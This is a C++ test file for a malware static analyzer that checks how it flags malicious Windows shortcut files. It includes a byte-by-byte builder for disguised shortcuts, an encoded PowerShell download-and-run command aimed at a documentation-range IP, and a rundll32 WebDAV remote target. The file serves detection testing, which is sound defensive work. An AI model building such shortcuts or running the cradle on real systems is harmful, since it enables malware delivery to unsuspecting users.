// Windows shortcuts through the whole static stage: StaticResult.lnk, the findings of
// lnk_analyzer, the command line decoded by the script layer, indicators from it, appended
// payloads as children, and the signatures of rules/signatures/lnk.yaml and script.yaml. The real
// shortcut is InQuest's GlobalSign campaign one; the others are built byte by byte in the shapes
// shortcut droppers use.
#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

#include "kensa/archive/archive_reader.h"
#include "kensa/core/file.h"
#include "kensa/hashing/hashes.h"
#include "kensa/static_analysis/static_analyzer.h"

namespace kensa::static_analysis {
namespace {

const StaticAnalyzer& Analyzer() {
  static const std::unique_ptr<StaticAnalyzer> analyzer = [] {
    std::vector<std::string> warnings;
    auto created = StaticAnalyzer::Create(StaticConfig{}, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *analyzer;
}

bool HasAnomaly(const analysis::v1::StaticResult& result, const std::string& code) {
  return std::any_of(result.anomalies().begin(), result.anomalies().end(),
                     [&](const auto& anomaly) { return anomaly.code() == code; });
}

std::string AnomalyDetail(const analysis::v1::StaticResult& result, const std::string& code) {
  for (const auto& anomaly : result.anomalies()) {
    if (anomaly.code() == code) return anomaly.detail();
  }
  return {};
}

bool HasSignature(const analysis::v1::StaticResult& result, const std::string& name) {
  return std::any_of(result.signatures().begin(), result.signatures().end(),
                     [&](const auto& signature) { return signature.name() == name; });
}

bool HasIndicator(const analysis::v1::StaticResult& result, analysis::v1::IndicatorType type, const std::string& value) {
  return std::any_of(result.indicators().begin(), result.indicators().end(),
                     [&](const auto& i) { return i.type() == type && i.value() == value; });
}

void PutU16(std::string& out, std::uint16_t v) {
  out.push_back(static_cast<char>(v & 0xFF));
  out.push_back(static_cast<char>(v >> 8));
}
void PutU32(std::string& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}
void PutUnicode(std::string& out, std::string_view ascii) {
  PutU16(out, static_cast<std::uint16_t>(ascii.size()));
  for (char c : ascii) PutU16(out, static_cast<std::uint8_t>(c));
}

// A Unicode shortcut to `target` (an EnvironmentVariableDataBlock, as shortcut builders write
// it) with arguments and an icon, and `appended` after the terminal block.
std::string BuildShortcut(std::string_view target, std::string_view arguments, std::string_view icon,
                          std::int32_t icon_index, std::string_view appended = {}) {
  std::string lnk("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 20);
  constexpr std::uint32_t kFlags = 0x20 | 0x40 | 0x80 | 0x200;  // arguments, icon, Unicode, ExpString
  PutU32(lnk, kFlags);
  lnk.resize(0x38, '\0');
  PutU32(lnk, static_cast<std::uint32_t>(icon_index));
  PutU32(lnk, 7);  // SW_SHOWMINNOACTIVE
  lnk.resize(0x4C, '\0');
  PutUnicode(lnk, arguments);
  PutUnicode(lnk, icon);
  std::string block;
  PutU32(block, 0x314);
  PutU32(block, 0xA0000001);
  block.append(target);
  block.resize(8 + 260, '\0');
  for (char c : target) PutU16(block, static_cast<std::uint8_t>(c));
  block.resize(0x314, '\0');
  lnk += block;
  PutU32(lnk, 0);
  lnk += appended;
  return lnk;
}

std::string Base64Utf16(std::string_view ascii) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string bytes;
  for (char c : ascii) {
    bytes.push_back(c);
    bytes.push_back('\0');
  }
  std::string out;
  std::size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i + 1])) << 8) |
                   static_cast<std::uint8_t>(bytes[i + 2]);
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], kAlphabet[n & 63]};
  }
  if (i + 1 == bytes.size()) {
    const auto n = static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16;
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], '=', '='};
  } else if (i + 2 == bytes.size()) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(bytes[i + 1])) << 8);
    out += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], '='};
  }
  return out;
}

ByteSpan AsBytes(const std::string& s) { return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}; }

TEST_CASE("The GlobalSign campaign shortcut: wscript on a dropped VBScript, the machine that made it") {
  auto zip = ReadFileBounded("../shared/corpora/inquest-docs/2020-07-GlobalSign.zip", 64u << 20);
  REQUIRE(zip.has_value());
  auto listing = archive::ReadArchive(*zip, {"infected"}, archive::ArchiveLimits{});
  REQUIRE(listing.has_value());
  auto member = std::find_if(listing->members.begin(), listing->members.end(),
                             [](const auto& m) { return m.name.ends_with("/system_lnk"); });
  REQUIRE(member != listing->members.end());

  auto result = Analyzer().Analyze(member->data, "system.lnk");
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "lnk");
  const auto& lnk = result->lnk();
  CHECK(lnk.target_path() == "C:\\Windows\\System32\\wscript.exe");
  CHECK(lnk.tracker().machine_id() == "desktop-3qp1nmc");
  CHECK(lnk.tracker().mac_address() == "00:50:56:92:a7:d5");
  CHECK(lnk.volume().drive_serial_number() == 0xB49A9525);
  CHECK(lnk.command_line() ==
        "C:\\Windows\\System32\\wscript.exe C:\\\\ProgramData\\\\Support\\\\licenseverification.vbs fYBtqEucjehr84MW");
  CHECK(AnomalyDetail(*result, "lnk_runs_shell") ==
        "target C:\\Windows\\System32\\wscript.exe with arguments "
        "C:\\\\ProgramData\\\\Support\\\\licenseverification.vbs fYBtqEucjehr84MW");
  CHECK(HasSignature(*result, "lnk_runs_shell"));
  CHECK(result->script().source() == "lnk command line");
  CHECK_FALSE(HasAnomaly(*result, "lnk_remote_target"));
  CHECK_FALSE(HasAnomaly(*result, "lnk_icon_mismatch"));
}

TEST_CASE("A padded shortcut running encoded PowerShell under a PDF icon, with a payload appended") {
  const std::string cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')";
  const std::string arguments = std::string(300, ' ') + "-w hidden -enc " + Base64Utf16(cradle);
  const std::string payload = "MZ" + std::string(200, '\x90');
  const std::string lnk = BuildShortcut("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", arguments,
                                        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", 11, payload);
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(AsBytes(lnk), "invoice.pdf.lnk", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  CHECK(result->lnk().show_command() == "SW_SHOWMINNOACTIVE");
  CHECK(AnomalyDetail(*result, "lnk_long_arguments") ==
        std::to_string(arguments.size()) + " characters of arguments, a run of 300 blanks at character 0");
  CHECK(AnomalyDetail(*result, "lnk_icon_mismatch") ==
        "icon C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe,11 on target "
        "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  CHECK(HasAnomaly(*result, "lnk_runs_shell"));
  CHECK(HasAnomaly(*result, "lnk_encoded_powershell"));
  CHECK(HasAnomaly(*result, "lnk_appended_data"));
  // The decoded command: its URL is an indicator, its download a script finding.
  CHECK(HasIndicator(*result, analysis::v1::INDICATOR_TYPE_URL, "http://203.0.113.5/p.ps1"));
  CHECK(HasAnomaly(*result, "script_encoded_command"));
  CHECK(AnomalyDetail(*result, "script_download_cradle") == "Net.WebClient.DownloadString: " + cradle);
  for (const char* name : {"lnk_runs_shell", "lnk_hidden_arguments", "lnk_icon_mismatch", "lnk_encoded_powershell",
                           "lnk_appended_data", "script_encoded_command", "script_download_cradle"}) {
    INFO(name);
    CHECK(HasSignature(*result, name));
  }
  REQUIRE(children.size() == 1);
  CHECK(children[0].info.origin() == "lnk appended data");
  CHECK(children[0].info.name() == "invoice.pdf.lnk.appended.bin");
  CHECK(children[0].info.sha256() == hashing::Sha256Hex(AsBytes(payload)));
  REQUIRE(result->extracted_files_size() == 1);
  CHECK(result->extracted_files(0).size() == payload.size());
}

TEST_CASE("A shortcut running rundll32 on a WebDAV share is a remote LOLBin target") {
  const std::string lnk = BuildShortcut("C:\\Windows\\System32\\rundll32.exe",
                                        "\\\\198.51.100.7@80\\share\\update.dll,Start", "", 0);
  auto result = Analyzer().Analyze(AsBytes(lnk), "update.lnk");
  REQUIRE(result.has_value());
  CHECK(HasAnomaly(*result, "lnk_runs_lolbin"));
  CHECK(AnomalyDetail(*result, "lnk_remote_target") == "\\\\198.51.100.7@80\\share\\update.dll,Start");
  CHECK(HasSignature(*result, "lnk_runs_lolbin"));
  CHECK(HasSignature(*result, "lnk_remote_target"));
  CHECK_FALSE(HasAnomaly(*result, "lnk_runs_shell"));
}

TEST_CASE("An ordinary application shortcut raises no shortcut finding") {
  const auto data = ReadFileBounded("../shared/corpora/plaso-test-data/test_data/NeroInfoTool.lnk", 1 << 20);
  REQUIRE(data.has_value());
  auto result = Analyzer().Analyze(*data, "NeroInfoTool.lnk");
  REQUIRE(result.has_value());
  CHECK(result->lnk().target_path() == "C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\\InfoTool.exe");
  for (const auto& anomaly : result->anomalies()) {
    INFO(anomaly.code() << ": " << anomaly.detail());
    CHECK_FALSE(anomaly.code().starts_with("lnk_"));
  }
  for (const auto& signature : result->signatures()) {
    INFO(signature.name());
    CHECK_FALSE(signature.name().starts_with("lnk_"));
    CHECK_FALSE(signature.name().starts_with("script_"));
  }
}

}  // namespace
}  // namespace kensa::static_analysis
